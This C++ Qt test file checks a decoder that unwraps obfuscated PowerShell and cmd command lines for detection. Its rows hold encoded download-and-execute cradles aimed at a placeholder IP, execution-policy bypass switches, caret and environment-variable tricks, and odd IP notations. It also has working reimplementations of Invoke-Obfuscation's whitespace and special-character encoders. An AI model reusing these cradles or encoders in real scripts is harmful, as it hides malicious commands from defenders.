// Decoder: one data row per transform and per lenient-decoding case.
#include "cmdline/decoder.h"
#include "cmdline/transforms.h"

#include <QTest>

using namespace causa;

namespace {

const char *kEnc = "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABoAGUAbABsAG8A"; // Write-Output hello
const char *kNested =
    "cABvAHcAZQByAHMAaABlAGwAbAAgAC0AZQBuAGMAIABWAHcAQgB5AEEARwBrAEEAZABBAEIAbABBAEMAMABBAFQAdwBCADEAQQBIAFEAQQBjAEEAQgAxAEEASABRAEEASQBBAEIAdQBBAEcAVQBBAGMAdwBCADAAQQBHAFUAQQBaAEEAQQA9AA==";
const char *kAscii =
    "SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwOi8vMjAzLjAuMTEzLjcvYScp";
const char *kGzip = "H4sIAAAAAAACAwsvyixJ1fUvLSkoLVFIr8osKEhNUShIrMzJT0wBAGw1Y1IcAAAA";
const char *kDeflate = "Cy/KLEnV9S8tKSgtUUhJTctJLElNUShIrMzJT0wBAA==";
const char *kNoPad = "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABwAGEAZAA";

QString s(const char *c)
{
    return QString::fromUtf8(c);
}

QStringList transforms(const QList<DecodeLayer> &layers)
{
    QStringList t;
    for (const DecodeLayer &l : layers)
        t << l.transform;
    return t;
}

// Invoke-Obfuscation ENCODING\WHITESPACE, written from its description: each character code's
// decimal digits as runs of (digit + 1) spaces joined by a tab, characters joined by two tabs.
QString whitespaceEncode(const QString &command)
{
    QStringList chars;
    for (QChar c : command) {
        QStringList runs;
        for (QChar d : QString::number(c.unicode()))
            runs << QString(d.digitValue() + 1, QLatin1Char(' '));
        chars << runs.join(QLatin1Char('\t'));
    }
    return chars.join(QStringLiteral("\t\t"));
}

QString whitespaceLauncher(const QString &command)
{
    return QLatin1Char('\'') + whitespaceEncode(command) +
           QStringLiteral(
               "' | % {$s = $_ -Split \"`t`t\" | % {\"`t\"; $_.Split(\"`t\") | % {$_.Length-1}}; "
               "IEX ([Char[]][Int[]](($s -Join '').Trim(\"`t\").Split(\"`t\")) -Join '')}");
}

// Invoke-Obfuscation ENCODING\SPECIALCHAR style, written from its description: digit variables
// counted up from +$(), "[CHar]" and "iex" spelled by indexing "$(@{})", "$?" and "".insert.
QString specialCharEncode(const QString &command)
{
    static const char *digit[] = {"=", "+", "@", ".", "[", "]", "(", ")", "&", "|"};
    auto v = [](const char *name) { return QStringLiteral("${%1}").arg(QLatin1String(name)); };
    auto number = [&](int n) {
        QString out;
        for (QChar d : QString::number(n))
            out += v(digit[d.digitValue()]);
        return out;
    };
    QString script =
        v(";") + QStringLiteral("=+$();") + v("=") + QLatin1Char('=') + v(";") + QLatin1Char(';');
    for (int d = 1; d <= 9; ++d)
        script += v(digit[d]) + QStringLiteral("=++") + v(";") + QLatin1Char(';');
    auto ht = [&](int i) -> QString {
        return QStringLiteral("\"$(@{})\"[\"") + number(i) + QStringLiteral("\"]");
    };
    // "[CHar]" = "[" + C(7) H(19) a(20) + "$?"[1] ("r") + "]"
    script += v("*") + QStringLiteral("=\"[\"+") + ht(7) + QLatin1Char('+') + ht(19) +
              QLatin1Char('+') + ht(20) + QStringLiteral("+\"$?\"[") + v("+") +
              QStringLiteral("]+\"]\";");
    // "".insert's string form "string Insert(int startIndex, string value)": i(3) e(10) x(27)
    script += v(";") + QStringLiteral("=\"\".(") + ht(14) + QLatin1Char('+') + ht(16) +
              QLatin1Char('+') + ht(0) + QLatin1Char('+') + ht(4) + QStringLiteral("+\"$?\"[") +
              v("+") + QStringLiteral("]+") + ht(3) + QStringLiteral(");");
    script += v(";") + QLatin1Char('=') + ht(14) + QLatin1Char('+') + ht(4) +
              QStringLiteral("+\"") + v(";") + QStringLiteral("\"[\"") + number(27) +
              QStringLiteral("\"];");
    QStringList casts;
    for (QChar c : command)
        casts << v("*") + number(c.unicode());
    return script + QLatin1Char('"') + casts.join(QLatin1Char('+')) + QStringLiteral("|") + v(";") +
           QStringLiteral("\"|&") + v(";");
}

} // namespace

class TestCmdlineDecoder : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void transformsDecode_data();
    void transformsDecode();
    void spansPointIntoParent();
    void lenientNotes_data();
    void lenientNotes();
    void nothingToDecode_data();
    void nothingToDecode();
    void ipv4Notations_data();
    void ipv4Notations();
    void decodesPastOpaqueRuns_data();
    void decodesPastOpaqueRuns();
    void inflateCutIsReported();
    void invokeObfuscationLayers();
    void invokeObfuscationHostile_data();
    void invokeObfuscationHostile();
};

void TestCmdlineDecoder::transformsDecode_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("transform");
    QTest::addColumn<QString>("expected");

    QTest::newRow("powershell -enc utf16le")
        << s("powershell -nop -enc ") + s(kEnc) << "base64-utf16le"
        << "Write-Output hello";
    QTest::newRow("powershell -EncodedCommand")
        << s("powershell.exe -EncodedCommand ") + s(kEnc) << "base64-utf16le"
        << "Write-Output hello";
    QTest::newRow("powershell -e shortest prefix") << s("pwsh -e ") + s(kEnc) << "base64-utf16le"
                                                   << "Write-Output hello";
    QTest::newRow("powershell -ec alias") << s("powershell -ec ") + s(kEnc) << "base64-utf16le"
                                          << "Write-Output hello";
    QTest::newRow("powershell /enc slash") << s("powershell /enc ") + s(kEnc) << "base64-utf16le"
                                           << "Write-Output hello";
    QTest::newRow("powershell en-dash -enc")
        << s("powershell \u2013enc ") + s(kEnc) << "base64-utf16le"
        << "Write-Output hello";
    // A short payload only the -e switch decodes (a bare base64 run needs 32 characters), after
    // -ExecutionPolicy, which starts with -e but is no encoded-command switch.
    QTest::newRow("-e after -ExecutionPolicy")
        << s("powershell -ExecutionPolicy Bypass -e dwBoAG8AYQBtAGkA") << "base64-utf16le"
        << "whoami";
    QTest::newRow("caret inside -e^c")
        << s("powershell -Exec Bypass -e^c dwBoAG8AYQBtAGkA") << "base64-utf16le"
        << "whoami";
    QTest::newRow("quote inside -e\"n\"c")
        << s("powershell -Ex Bypass -e\"n\"c dwBoAG8AYQBtAGkA") << "base64-utf16le"
        << "whoami";
    QTest::newRow("caret-escaped -enc")
        << s("cmd /c p^owershell -^e^n^c ") + s(kEnc) << "base64-utf16le"
        << "Write-Output hello";
    QTest::newRow("quoted -enc payload")
        << s("powershell -enc \"") + s(kEnc) + s("\"") << "base64-utf16le"
        << "Write-Output hello";
    QTest::newRow("quoted long -enc payload")
        << s("powershell -enc \"") + s(kNested) + s("\"") << "base64-utf16le"
        << "Write-Output nested";
    QTest::newRow("long -enc payload split by quotes")
        << s("powershell -enc \"") + s(kNested).left(40) + s("\"") + s(kNested).mid(40)
        << "base64-utf16le"
        << "Write-Output nested";
    QTest::newRow("nested base64 double") << s("powershell -enc ") + s(kNested) << "base64-utf16le"
                                          << "Write-Output nested";
    QTest::newRow("base64 ascii token") << s("cmd /c echo ") + s(kAscii) << "base64-ascii"
                                        << "DownloadString('http://203.0.113.7/a')";
    QTest::newRow("gzip in base64")
        << s("IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('") +
               s(kGzip) + s("'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()")
        << "gzip"
        << "Write-Output gzipped payload";
    QTest::newRow("deflate in base64")
        << s("IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('") +
               s(kDeflate) + s("'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()")
        << "deflate"
        << "Write-Output deflated payload";
    QTest::newRow("char codes concatenated") << s("[char]73+[char]69+[char]88") << "char-codes"
                                             << "'IEX'";
    QTest::newRow("char codes hex") << s("[CHAR]0x49 + [char]0x45+[char]0x58") << "char-codes"
                                    << "'IEX'";
    QTest::newRow("char array") << s("-join [char[]](73,69,88)") << "char-codes"
                                << "'IEX'";
    QTest::newRow("char pipe foreach") << s("((73,69,88)|%{[char]$_}) -join ''") << "char-codes"
                                       << "'IEX'";
    QTest::newRow("string concat") << s("$m = 'Down'+'load'+\"String\"") << "concat"
                                   << "'DownloadString'";
    QTest::newRow("format operator")
        << s("(\"{2}{0}{1}\" -f 'load','String','Down')") << "format-operator"
        << "'DownloadString'";
    QTest::newRow("backticks") << s("I`E`X (N`ew-Ob`ject Net.WebClient)") << "backtick"
                               << "IEX (New-Object Net.WebClient)";
    QTest::newRow("cmd carets") << s("c^m^d /c w^h^o^a^m^i") << "caret"
                                << "cmd /c whoami";
    QTest::newRow("env substring comspec") << s("%COMSPEC:~-7,3% /c whoami") << "env-substring"
                                           << "cmd /c whoami";
    QTest::newRow("env substring padded dosfuscation")
        << s("%ProgramData:~  0,1%%ProgramData:~  -9,  1%") << "env-substring"
        << "Co";
    QTest::newRow("set variable concatenation")
        << s("cmd /c \"set a=who&&set b=ami&&call %a%%b%\"") << "set-variable"
        << "call whoami";
    QTest::newRow("set variable substitution")
        << s("cmd /c \"set x=nXt usXr&&call %x:X=e%\"") << "set-variable"
        << "call net user";
    QTest::newRow("reverse index") << s("('gnirtSdaolnwoD'[-1..-14] -join '')") << "reverse"
                                   << "'DownloadString'";
    QTest::newRow("reverse whole line")
        << s(")'1a/7.311.0.302//:ptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN( XEI") << "reverse"
        << "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a1')";
    QTest::newRow("replace operator") << s("('DowXXnloadString' -replace 'XX','')") << "replace"
                                      << "'DownloadString'";
    QTest::newRow("replace method") << s("'DowZZnloadString'.Replace('ZZ','')") << "replace"
                                    << "'DownloadString'";
    QTest::newRow("hex escapes") << s("echo \\x49\\x45\\x58 done") << "hex-escape"
                                 << "IEX done";
    QTest::newRow("octal escapes") << s("echo \\111\\105\\130 done") << "hex-escape"
                                   << "IEX done";
    QTest::newRow("url encoding") << s("curl http://example.com/%70%61%79%6c%6f%61%64.ps1")
                                  << "url-decode"
                                  << "http://example.com/payload.ps1";
    QTest::newRow("ip hex in url") << s("iwr http://0xB9DC652A:8080/x") << "ip-normalise"
                                   << "http://185.220.101.42:8080/x";
    QTest::newRow("ip decimal in url") << s("iwr http://3232235786/x") << "ip-normalise"
                                       << "http://192.168.1.10/x";
    QTest::newRow("ip short form in url") << s("iwr http://127.1/x") << "ip-normalise"
                                          << "http://127.0.0.1/x";
    QTest::newRow("whitespace encoding Write-Host hi")
        << whitespaceLauncher(QStringLiteral("Write-Host hi")) << "whitespace-encoding"
        << "Write-Host hi";
    QTest::newRow("special-char encoding whoami /all")
        << specialCharEncode(QStringLiteral("whoami /all")) << "special-char"
        << "'whoami /all'";
    QTest::newRow("ip dotted octal") << s("ping 0300.0250.01.012") << "ip-normalise"
                                     << "ping 192.168.1.10";
    QTest::newRow("ip mixed dotted hex in unc")
        << s("net use \\\\0xC0.0xA8.1.0xA\\c$") << "ip-normalise"
        << "\\\\192.168.1.10\\c$";
}

void TestCmdlineDecoder::transformsDecode()
{
    QFETCH(QString, line);
    QFETCH(QString, transform);
    QFETCH(QString, expected);
    const QList<DecodeLayer> layers = Decoder::decode(line);
    QVERIFY2(
        transforms(layers).contains(transform),
        qPrintable(QStringLiteral("chain: %1").arg(transforms(layers).join(QLatin1String(" > ")))));
    const QString decoded = layers.isEmpty() ? line : layers.last().text;
    QVERIFY2(decoded.contains(expected), qPrintable(QStringLiteral("decoded: ") + decoded));
}

void TestCmdlineDecoder::spansPointIntoParent()
{
    const QString line = s("cmd /c powershell -w hidden -enc ") + s(kNested);
    const QList<DecodeLayer> layers = Decoder::decode(line);
    QCOMPARE(transforms(layers),
             QStringList({QStringLiteral("base64-utf16le"), QStringLiteral("base64-utf16le")}));
    QCOMPARE(line.mid(layers[0].start, layers[0].end - layers[0].start), s(kNested));
    const QString &parent = layers[0].text;
    QCOMPARE(parent.mid(layers[1].start, layers[1].end - layers[1].start),
             QStringLiteral("VwBy") +
                 parent.mid(layers[1].start + 4, layers[1].end - layers[1].start - 4));
    QVERIFY(parent.mid(layers[1].start)
                .startsWith(QLatin1String("VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIABuAGUAcwB0AGUAZAA")));
    QCOMPARE(layers[1].text, QStringLiteral("Write-Output nested"));
}

void TestCmdlineDecoder::lenientNotes_data()
{
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("noteWord");
    QTest::newRow("base64 missing padding") << s("powershell -enc ") + s(kNoPad) << "padding";
    QTest::newRow("ascii payload after -enc") << s("powershell -enc ") + s(kAscii) << "UTF-16LE";
    QTest::newRow("caret inside quotes") << s("cmd /c \"w^h^o^a^m^i\"") << "inside double quotes";
    QTest::newRow("backtick inside single quotes") << s("echo 'I`E`X'") << "single quotes";
    QTest::newRow("replace with regex operators")
        << s("('a.b.c' -replace '\\.+','')") << "regular-expression";
}

void TestCmdlineDecoder::lenientNotes()
{
    QFETCH(QString, line);
    QFETCH(QString, noteWord);
    const QList<DecodeLayer> layers = Decoder::decode(line);
    QVERIFY(!layers.isEmpty());
    QString notes;
    for (const DecodeLayer &l : layers)
        notes += l.note + QLatin1Char('|');
    QVERIFY2(notes.contains(noteWord), qPrintable(notes));
}

void TestCmdlineDecoder::nothingToDecode_data()
{
    QTest::addColumn<QString>("line");
    QTest::newRow("conhost force v1")
        << s("\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
    QTest::newRow("osascript -e is not an encoded command")
        << s("osascript -e 'display dialog \"hello\"'");
    QTest::newRow("plain admin command") << s("sc query wuauserv");
    QTest::newRow("sha256 argument is not base64 text") << s(
        "certutil -hashfile C:\\x.exe SHA256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    QTest::newRow("version numbers are not addresses") << s("msiexec /i app-10.0.19041.1.msi /qn");
    QTest::newRow("regex anchor is not a caret escape")
        << s("powershell Get-ChildItem | ? { $_.Name -match '^abc' }");
}

void TestCmdlineDecoder::nothingToDecode()
{
    QFETCH(QString, line);
    const QList<DecodeLayer> layers = Decoder::decode(line);
    QVERIFY2(layers.isEmpty(), qPrintable(transforms(layers).join(QLatin1Char(','))));
}

void TestCmdlineDecoder::ipv4Notations_data()
{
    QTest::addColumn<QString>("written");
    QTest::addColumn<QString>("canonical");
    QTest::newRow("hex integer") << "0xB9DC652A"
                                 << "185.220.101.42";
    QTest::newRow("decimal integer") << "3118228778"
                                     << "185.220.101.42";
    QTest::newRow("octal integer") << "027167062452"
                                   << "185.220.101.42";
    QTest::newRow("dotted hex") << "0xB9.0xDC.0x65.0x2A"
                                << "185.220.101.42";
    QTest::newRow("dotted octal") << "0271.0334.0145.052"
                                  << "185.220.101.42";
    QTest::newRow("mixed dotted") << "0xB9.220.0145.42"
                                  << "185.220.101.42";
    QTest::newRow("two parts") << "185.14443818"
                               << "185.220.101.42";
    QTest::newRow("three parts") << "185.220.25898"
                                 << "185.220.101.42";
    QTest::newRow("short loopback") << "127.1"
                                    << "127.0.0.1";
}

void TestCmdlineDecoder::ipv4Notations()
{
    QFETCH(QString, written);
    QFETCH(QString, canonical);
    quint32 ip = 0;
    QVERIFY(detail::parseIpv4Lenient(written, &ip));
    QCOMPARE(detail::ipv4ToString(ip), canonical);
    QVERIFY(!detail::parseIpv4Lenient(QStringLiteral("256.1.1.1"), &ip));
    QVERIFY(!detail::parseIpv4Lenient(QStringLiteral("1.2.3.4.5"), &ip));
    QVERIFY(!detail::parseIpv4Lenient(QStringLiteral("0x1G"), &ip));
}

void TestCmdlineDecoder::decodesPastOpaqueRuns_data()
{
    // Transforms step over long base64-looking runs found by the layer scan: what sits before
    // or after such a run must still be decoded exactly as without it.
    QTest::addColumn<QString>("line");
    QTest::addColumn<QString>("transform");
    QTest::addColumn<QString>("expected");
    QString noise;
    const char *alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for (int i = 0; i < 300000; ++i)
        noise += QLatin1Char(alphabet[(quint64(i) * 7919u + quint64(i) / 13u) % 64u]);
    const QString pad = s("cmd /c echo ") + noise + s(" & ");
    QTest::newRow("-enc after a 300k token")
        << pad + s("powershell /enc ") + s(kEnc) << "base64-utf16le"
        << "Write-Output hello";
    QTest::newRow("-enc before a 300k token")
        << s("powershell -enc ") + s(kEnc) + s(" ") + noise << "base64-utf16le"
        << "Write-Output hello";
    QTest::newRow("reversed line after a 300k token")
        << pad + s("')a/moc.elpmaxe//:ptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(") << "reverse"
        << "DownloadString";
    QTest::newRow("-replace after a 300k token")
        << pad + s("('wXoami' -replace 'X','h')") << "replace"
        << "whoami";
    QTest::newRow("[char] codes after a 300k token")
        << pad + s("[char[]](73,69,88) -join ''") << "char-codes"
        << "'IEX'";
    QTest::newRow("-f after a 300k token")
        << pad + s("(\"{1}{0}\" -f 'X','IE')") << "format-operator"
        << "'IEX'";
    QTest::newRow("base64 after a 300k token") << pad + s(kAscii) << "base64-ascii"
                                               << "DownloadString('http://203.0.113.7/a')";
    QTest::newRow("decodable 300k base64 run")
        << s("cmd /c echo ") +
               QString::fromLatin1(QByteArray("Write-Output decodable ").repeated(10000).toBase64())
        << "base64-ascii"
        << "Write-Output decodable";
}

void TestCmdlineDecoder::decodesPastOpaqueRuns()
{
    QFETCH(QString, line);
    QFETCH(QString, transform);
    QFETCH(QString, expected);
    const QList<DecodeLayer> layers = Decoder::decode(line);
    QVERIFY2(
        transforms(layers).contains(transform),
        qPrintable(QStringLiteral("chain: %1").arg(transforms(layers).join(QLatin1String(" > ")))));
    QVERIFY(layers.last().text.contains(expected));
}

void TestCmdlineDecoder::inflateCutIsReported()
{
    // 9 MB of text deflated to a few kilobytes: the decoder keeps 8 MB and says so. (qCompress
    // writes a 4-byte length and a 2-byte zlib header before the raw deflate stream.)
    const QByteArray plain = QByteArray("Write-Output x; ").repeated(9 * 1024 * 1024 / 16);
    const QByteArray raw = qCompress(plain, 9).mid(6);
    const QString line =
        s("powershell IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream("
          "[IO.MemoryStream][Convert]::FromBase64String('") +
        QString::fromLatin1(raw.toBase64()) +
        s("'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()");
    const QList<DecodeLayer> layers = Decoder::decode(line);
    QVERIFY2(transforms(layers).contains(QStringLiteral("deflate")),
             qPrintable(transforms(layers).join(QLatin1Char(','))));
    QString notes;
    for (const DecodeLayer &l : layers)
        notes += l.note + QLatin1Char('|');
    QVERIFY2(notes.contains(QLatin1String("truncated at 8388608 bytes")), qPrintable(notes));
}

void TestCmdlineDecoder::invokeObfuscationLayers()
{
    // Whitespace: the layer is the command the launcher would run, its span the quoted data.
    const QString ws = whitespaceLauncher(QStringLiteral("Write-Host hi"));
    QList<DecodeLayer> layers = Decoder::decode(ws);
    QVERIFY(!layers.isEmpty());
    QCOMPARE(layers[0].transform, QStringLiteral("whitespace-encoding"));
    QCOMPARE(layers[0].text, QStringLiteral("Write-Host hi"));
    QCOMPARE(layers[0].start, 0);
    QCOMPARE(ws.mid(layers[0].start, layers[0].end - layers[0].start),
             QLatin1Char('\'') + whitespaceEncode(QStringLiteral("Write-Host hi")) +
                 QLatin1Char('\''));

    // Special characters: the evaluated string is the [CHar] chain (with the launcher's own
    // "|iex" spelled out), which the [char] transform then decodes.
    const QString sc = specialCharEncode(QStringLiteral("whoami"));
    layers = Decoder::decode(sc);
    QVERIFY(layers.size() >= 2);
    QCOMPARE(layers[0].transform, QStringLiteral("special-char"));
    QCOMPARE(layers[1].transform, QStringLiteral("char-codes"));
    QCOMPARE(layers[0].text,
             QStringLiteral("[CHar]119+[CHar]104+[CHar]111+[CHar]97+[CHar]109+[CHar]105|iex"));
    QVERIFY(sc.mid(layers[0].start, layers[0].end - layers[0].start)
                .startsWith(QLatin1String("\"${*}${")));
    QCOMPARE(layers.last().text, QStringLiteral("'whoami'|iex"));
}

void TestCmdlineDecoder::invokeObfuscationHostile_data()
{
    QTest::addColumn<QString>("line");
    // Valid structure, but every character decodes to NUL: not printable text.
    QTest::newRow("1 MB of spaces and tabs decoding to NUL")
        << QLatin1Char('\'') + QStringLiteral(" \t\t").repeated(350000) +
               QStringLiteral(" ' | iex");
    QTest::newRow("1 MB of spaces and tabs with over-long runs")
        << QLatin1Char('"') + QStringLiteral("            \t").repeated(80000) +
               QStringLiteral("\"");
    QTest::newRow("1 MB of unquoted spaces and tabs") << QStringLiteral(" \t").repeated(512 * 1024);
    QTest::newRow("1 MB quoted whitespace never closed")
        << QLatin1Char('\'') + QStringLiteral("  \t ").repeated(256 * 1024);
    QTest::newRow("whitespace digits beyond a char code")
        << QLatin1Char('\'') + whitespaceEncode(QStringLiteral("AB")) + QLatin1Char('\t') +
               QStringLiteral("          \t").repeated(6) + QStringLiteral(" '");
    const QString good = specialCharEncode(QStringLiteral("whoami"));
    QVERIFY(!transforms(Decoder::decode(good)).isEmpty());
    // Each hostile variant must really differ from the valid script.
    auto broken = [&](QLatin1StringView from, QLatin1StringView to) {
        const QString out = QString(good).replace(from, to);
        if (out == good)
            qFatal("variant did not change the script");
        return out;
    };
    QTest::newRow("special-char unbalanced brace") << QStringLiteral("{") + good;
    QTest::newRow("special-char unbalanced paren") << good + QStringLiteral(")");
    QTest::newRow("special-char unterminated variable") << good.left(good.size() - 1);
    QTest::newRow("special-char variable used before assignment")
        << broken(QLatin1String("\"${*}${"), QLatin1String("\"${~}${"));
    QTest::newRow("special-char index out of range")
        << broken(QLatin1String("$?\"[${+}]+\"]\""), QLatin1String("$?\"[${&}${&}]+\"]\""));
    QTest::newRow("special-char method call is not evaluated")
        << broken(QLatin1String("[\"${.}\"]);"), QLatin1String("[\"${.}\"])();"));
    QTest::newRow("100k ++${ } increments") << QStringLiteral("${ }=+$();${;}=${ };${+}=${ };") +
                                                   QStringLiteral("++${ };").repeated(100000) +
                                                   QStringLiteral(";\"${ }\"|&${;}");
    QTest::newRow("deeply nested parentheses")
        << QStringLiteral("${ }=+$();${;}=${ };${+}=${ };${-}=") +
               QStringLiteral("(").repeated(100000) + QStringLiteral("${ }") +
               QStringLiteral(")").repeated(100000) + QStringLiteral(";\"a${-}b\"");
    QTest::newRow("string doubling hits the budget")
        << QStringLiteral("${ }=+$();${;}=${ };${+}=\"ab\";") +
               QStringLiteral("${+}=${+}+${+};").repeated(40) + QStringLiteral("\"${+}\"");
    QTest::newRow("letters outside literals")
        << QStringLiteral("${ }=+$();${;}=${ };${+}=${ };Write-Host \"${ }x\"");
}

void TestCmdlineDecoder::invokeObfuscationHostile()
{
    QFETCH(QString, line);
    const QStringList chain = transforms(Decoder::decode(line));
    QVERIFY2(!chain.contains(QStringLiteral("whitespace-encoding")) &&
                 !chain.contains(QStringLiteral("special-char")),
             qPrintable(chain.join(QLatin1Char(','))));
}

QTEST_GUILESS_MAIN(TestCmdlineDecoder)
#include "tst_cmdlinedecoder.moc"
